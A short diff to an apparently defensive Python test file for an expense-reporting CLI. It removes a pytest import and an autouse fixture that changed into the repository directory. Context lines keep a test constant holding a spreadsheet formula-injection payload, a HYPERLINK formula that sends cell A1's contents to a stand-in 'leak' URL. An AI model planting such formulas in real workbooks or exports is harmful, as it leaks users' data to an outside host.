@@ -8,7 +8,6 @@ import sys
 import zipfile
 
 import openpyxl
-import pytest
 from conftest import CLEAN, REPO
 from typer.testing import CliRunner
 
@@ -17,11 +16,6 @@ from expensecli.cli import main
 main._register()
 AS_OF = ["--as-of", "2024-05-01"]
 FORMULA_ID = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
-
-
-@pytest.fixture(autouse=True)
-def in_repo(monkeypatch):
-    monkeypatch.chdir(REPO)
 
 
 def workbook(tmp_path, *args: str) -> openpyxl.Workbook:
